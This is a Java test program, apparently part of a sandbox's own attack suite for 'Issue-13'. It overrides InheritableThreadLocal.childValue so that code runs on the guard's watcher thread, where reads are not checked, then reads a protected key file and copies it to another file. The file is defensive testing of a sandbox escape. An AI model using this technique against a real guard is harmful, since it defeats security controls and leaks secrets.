package dev.agentguard.apps.attacks;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Issue-13 attack pass: application code run while the guard makes a thread of its own. A new thread copies
 * its maker's inheritable thread-local values through {@code InheritableThreadLocal.childValue}, which the
 * application may override; the guard makes its child-process time-limit watcher at the first start of a
 * program with a time limit, inside its check of that start, where this thread's calls are not checked.
 *
 * <p>Usage: {@code InheritedLocalAttack <key> <file to write what was read>}. Prints {@code LEAKED on <thread>}
 * after writing the key's bytes to the file, {@code DENIED <error>} for each read the guard checked, and
 * {@code STARTED} once {@code echo} ran.
 */
public final class InheritedLocalAttack {
    private InheritedLocalAttack() {}

    public static void main(String[] args) throws Exception {
        Path key = Path.of(args[0]);
        Path leak = Path.of(args[1]);
        InheritableThreadLocal<String> local = new InheritableThreadLocal<>() {
            @Override
            protected String childValue(String parentValue) {
                try {
                    String secret = Files.readString(key, StandardCharsets.UTF_8);
                    Files.writeString(leak, secret, StandardCharsets.UTF_8);
                    System.out.println("LEAKED on " + Thread.currentThread().getName());
                } catch (Throwable t) {
                    System.out.println("DENIED " + t.getClass().getName());
                }
                return parentValue;
            }
        };
        local.set("x");
        Process p = new ProcessBuilder("echo", "hello").start();
        p.waitFor();
        System.out.println("STARTED");
    }
}
